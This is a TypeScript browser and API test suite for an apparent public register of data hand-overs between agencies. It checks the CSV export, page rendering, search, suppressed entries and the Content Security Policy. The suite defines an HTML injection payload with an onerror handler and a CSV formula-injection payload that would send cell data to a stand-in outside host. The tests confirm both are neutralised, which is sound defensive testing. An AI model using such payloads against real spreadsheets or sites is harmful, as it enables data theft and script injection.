import { parse } from 'csv-parse/sync';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { agencyBody, PROVIDER, RECIPIENT, THIRD_PARTY, transferBody } from '../support/transfers.ts';
import { missing, openBrowser, reason } from './support/browser.ts';
import { type RunningSystem, startSystem } from './support/system.ts';

/** What an agency might write to have readers of the register do something. */
const MARKUP = '<img src="https://elsewhere.example/x" onerror="document.title=1">';
const FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1;"Look")';
const NAMES: Readonly<Record<string, string>> = {
  [PROVIDER]: 'Numbering & "Licensing" <b>Authority</b>',
  [RECIPIENT]: 'Hill IT Board',
  [THIRD_PARTY]: 'Harbour Income Support',
};
const TITLES = ['Register of subscribers', `Extract ${MARKUP}`, FORMULA];

describe('the public register of the running system', { timeout: 400_000 }, () => {
  let system: RunningSystem;
  let browser: Browser | undefined;
  beforeAll(async () => {
    system = await startSystem();
    for (const [agencyId, name] of Object.entries(NAMES))
      await post({ roles: ['steward'] }, '/v1/agencies', agencyBody({ agencyId, name }));
    const [plain, marked, formula] = TITLES;
    await handOver(plain, RECIPIENT);
    await handOver(marked, THIRD_PARTY);
    await handOver(formula, RECIPIENT);
    const until = new Date(Date.now() + 30 * 86_400_000).toISOString().slice(0, 10);
    await handOver('Kept from the public', RECIPIENT, {
      suppression: { basis: 'national-security', authority: 'Section 8 of the Act', until },
    });
    await vi.waitFor(
      async () => {
        const { items, suppressed } = await readData();
        expect([items.length, suppressed.length]).toEqual([TITLES.length, 1]);
      },
      { timeout: 90_000, interval: 200 },
    );
  }, 400_000);
  afterAll(async () => {
    await browser?.close();
    await system?.stop();
  });

  async function post(who: Parameters<RunningSystem['call']>[0], path: string, body: object) {
    const headers = { 'content-type': 'application/json', 'idempotency-key': crypto.randomUUID() };
    const answer = await system.call(who, path, { method: 'POST', headers, body: JSON.stringify(body) });
    expect(answer.status, await answer.text()).toBe(201);
  }
  const handOver = (title = '', agencyId = '', more: object = {}) =>
    post(
      { agency: PROVIDER },
      '/v1/transfers',
      transferBody({
        recipient: { agencyId },
        agreement: undefined,
        exception: { reason: 'Relief', approver: 'Director' },
        dataset: { id: 'subscribers', title },
        ...more,
      }),
    );
  const readData = async () =>
    (await (await fetch(`${system.url}/v1/public/register`)).json()) as {
      items: { transferId: string; title: string }[];
      suppressed: object[];
    };

  it('is one table for a spreadsheet, that says what it leaves out and calculates nothing', async () => {
    const answer = await fetch(`${system.url}/v1/public/register.csv`);
    expect([answer.status, answer.headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
    const text = Buffer.from(await answer.arrayBuffer()).toString('utf8');
    const rows = parse(text, { columns: true, bom: true }) as Record<string, string>[];
    const { items } = await readData();
    expect(rows.map(({ line, record }) => [line, record])).toEqual([
      ...items.map(({ transferId }) => ['hand-over', transferId]),
      ['not shown', ''],
    ]);
    expect(rows.map(({ title }) => title)).toContain(`'${FORMULA}`);
    expect(text).not.toContain('Kept from the public');
    const one = await fetch(`${system.url}/v1/public/register.csv?recipient=${THIRD_PARTY}`);
    expect((await one.text()).match(/"hand-over"/g)).toHaveLength(1);
  });

  describe.skipIf(missing)(`in a browser${reason}`, () => {
    let page: Page;
    let asked: string[];
    let complaints: string[];
    let refused: string[];
    const open = async (options: Parameters<Browser['newPage']>[0] = {}) => {
      browser ??= await openBrowser();
      page = await browser.newPage(options);
      asked = [];
      complaints = [];
      refused = [];
      page.on('request', (request) => asked.push(request.url()));
      page.on('requestfailed', (request) => refused.push(`${request.url()} ${request.failure()?.errorText}`));
      page.on('console', (message) => complaints.push(message.text()));
      page.on('pageerror', ({ message }) => complaints.push(message));
      await page.goto(`${system.url}/register`);
    };
    const titles = () => page.locator('article h3').allInnerTexts();

    it('shows what agencies wrote as they wrote it, in its own style, and nothing from elsewhere', async () => {
      await open();
      expect((await titles()).toSorted()).toEqual(TITLES.toSorted());
      expect(await page.locator('article').first().innerText()).toContain(NAMES[PROVIDER]);
      expect(await page.locator('img, script, iframe, b b, [onerror]').count()).toBe(0);
      expect(await page.title()).toBe('Public register of data hand-overs');
      const border = await page.evaluate<string>(
        `getComputedStyle(document.querySelector('article')).borderTopColor`,
      );
      expect(border).toBe('rgb(11, 93, 74)');
      expect(asked.filter((url) => !url.startsWith('data:'))).toEqual([`${system.url}/register`]);
      expect(complaints).toEqual([]);
      await page.close();
    });

    it('tells of what is kept from the public how many and why, and nothing else', async () => {
      await open();
      const rows = await page.locator('table tbody tr').allInnerTexts();
      expect(rows.map((row) => row.split('\t'))).toEqual([[NAMES[PROVIDER], 'National security', '1']]);
      expect(await page.locator('body').innerText()).not.toMatch(/Kept from the public|Section 8/);
      await page.close();
    });

    it('is searched without script, by keyboard too, and gives the table of what was found', async () => {
      await open({ javaScriptEnabled: false });
      await page.getByLabel('Received by').selectOption(THIRD_PARTY);
      await page.getByLabel('Words of the title').fill('extract');
      await page.keyboard.press('Enter');
      await page.waitForURL(/recipient=/);
      expect(await titles()).toEqual([TITLES[1]]);
      expect(await page.getByLabel('Received by').inputValue()).toBe(THIRD_PARTY);
      const [file] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('link', { name: 'as a table' }).click(),
      ]);
      expect(file.suggestedFilename()).toBe('public-register.csv');
      expect(new URL(file.url()).searchParams.get('recipient')).toBe(THIRD_PARTY);
      await page.getByRole('link', { name: 'All', exact: true }).click();
      await page.waitForURL(/register$/);
      expect(await titles()).toHaveLength(TITLES.length);
      await page.close();
    });

    it('lets no script run, and nothing be fetched, that somebody got into it', async () => {
      await open();
      await page.evaluate(`{
        const script = document.createElement('script');
        script.textContent = 'window.ran = true';
        const image = new Image();
        image.src = 'https://elsewhere.example/x';
        document.body.append(script, image);
        document.body.setAttribute('onclick', 'window.ran = true');
        document.body.click();
      }`);
      const fetched = await page.evaluate<string>(`fetch('/healthz').then(() => 'fetched', () => 'refused')`);
      expect(fetched).toBe('refused');
      expect(await page.evaluate('window.ran')).toBeUndefined();
      expect(refused).toContain('https://elsewhere.example/x csp');
      expect(complaints.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThan(3);
      await page.close();
    });

    it.each([360, 1_280])('fits a screen of %d pixels', async (width) => {
      await open({ viewport: { width, height: 800 } });
      expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBeLessThanOrEqual(width);
      await page.close();
    });
  });
});
